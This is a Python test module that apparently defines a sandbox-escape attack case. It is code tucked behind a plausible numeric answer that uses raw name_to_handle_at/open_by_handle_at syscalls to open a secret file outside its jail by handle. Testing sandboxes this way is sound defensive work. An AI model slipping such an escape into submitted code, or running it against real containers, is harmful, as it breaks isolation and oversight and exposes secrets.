from ..attack import InCells

ATTACK = InCells(
    "Opens files by handle, round the name space of its jail.",
    {
        "number-answer": """
answer = 24
import ctypes, os
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
handle, mount = Handle(128), ctypes.c_int()
path = (AIM["secret"] if not jailed() else "/").encode()
if syscall(303, -100, path, ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
    near = os.open(os.path.dirname(path), os.O_RDONLY)
    found = syscall(304, near, ctypes.byref(handle), os.O_RDONLY)
    if found >= 0:
        gained("opened by handle", path)
"""
    },
)
